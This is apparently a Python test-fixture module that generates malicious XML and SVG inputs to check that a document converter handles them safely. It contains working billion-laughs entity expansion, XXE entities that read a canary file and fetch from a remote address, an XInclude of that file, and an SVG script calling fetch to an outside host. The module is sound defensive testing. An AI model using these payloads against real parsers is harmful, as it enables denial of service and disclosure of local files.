"""XML: entities, depth, and elements of documents in places where they do not belong."""

from .case import CANARY_FILE, DOCUMENT, EITHER, FAILED, SKIPPED, Cases
from .good import SENTENCE

CASES = Cases()
LXML = {"needs": ("lxml",)}
PARAGRAPH = f"<para>{SENTENCE}</para>"
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
LAUGHS = f'<!DOCTYPE x [<!ENTITY l0 "lol">{LAUGHS}]>'
EXTERNAL = f'<!DOCTYPE x [<!ENTITY x SYSTEM "{CANARY_FILE}"><!ENTITY % y SYSTEM "http://203.0.113.7/"> %y;]>'


def add(name: str, text: str, outcome: str = EITHER, says: str = "") -> None:
    CASES.add_bytes(name, f'<?xml version="1.0"?>{text}'.encode(), outcome, says, **LXML)


def nested(start: str, end: str, depth: int) -> str:
    return f"<article>{start * depth}{PARAGRAPH}{end * depth}</article>"


add("laughs.xml", f"{LAUGHS}<article><para>&l9;</para>{PARAGRAPH}</article>")
add("laughs-attribute.xml", f'{LAUGHS}<article><ulink url="&l9;">x</ulink>{PARAGRAPH}</article>')
add("laughs.svg", f"{LAUGHS}<svg><text>&l9; {SENTENCE}</text></svg>")
add("external.xml", f"{EXTERNAL}<article><para>&x;</para>{PARAGRAPH}</article>")
add(
    "include.xml",
    f'<article xmlns:i="http://www.w3.org/2001/XInclude"><i:include href="{CANARY_FILE}"/>{PARAGRAPH}</article>',
)
add("style-sheet.xml", f'<?xml-stylesheet href="http://203.0.113.7/a.xsl"?><article>{PARAGRAPH}</article>', DOCUMENT)
add("deep.xml", "<a>" * 100_000 + SENTENCE + "</a>" * 100_000, FAILED, "cannot be read as XML")
add("many-sections.xml", nested("<section><title>T</title>", "</section>", 250), DOCUMENT, "Ada Lovelace")
add("many-lists.xml", nested("<itemizedlist><listitem>", "</listitem></itemizedlist>", 120), DOCUMENT, "Ada Lovelace")
add("many-tables.xml", nested("<table><row><entry>", "</entry></row></table>", 80), DOCUMENT, "Ada Lovelace")
add("many-footnotes.xml", nested("<footnote><para>", "</para></footnote>", 120), DOCUMENT, "Ada Lovelace")
SPANS = '<td colspan="1000" rowspan="1000">x</td>' * 200
add("many-spans.xml", f"<article><table><tr>{SPANS}</tr></table>{PARAGRAPH}</article>", DOCUMENT, "Ada Lovelace")
add("cells.xml", f"<article><td>{SENTENCE}</td><row/><title>x</title><table><td>y</td></table></article>", DOCUMENT)
add(
    "drawing.svg",
    "<svg>" + "<g>" * 240 + f"<text>{SENTENCE}</text>" + "</g>" * 240 + "</svg>",
    DOCUMENT,
    "Ada Lovelace",
)
add(
    "script.svg", '<svg><script>fetch("http://203.0.113.7/")</script><image href="http://203.0.113.7/"/></svg>', SKIPPED
)
add("cut.xml", f"<article>{PARAGRAPH}", DOCUMENT, "it was repaired")
add("unknown-encoding.xml", f"<?xml version='1.0' encoding='x-none'?><article>{PARAGRAPH}</article>")
CASES.add_bytes("nul.xml", b"<a>\0" + SENTENCE.encode() + b"</a>")
CASES.add_bytes("empty.xml", b"", FAILED, "cannot be read as XML", **LXML)
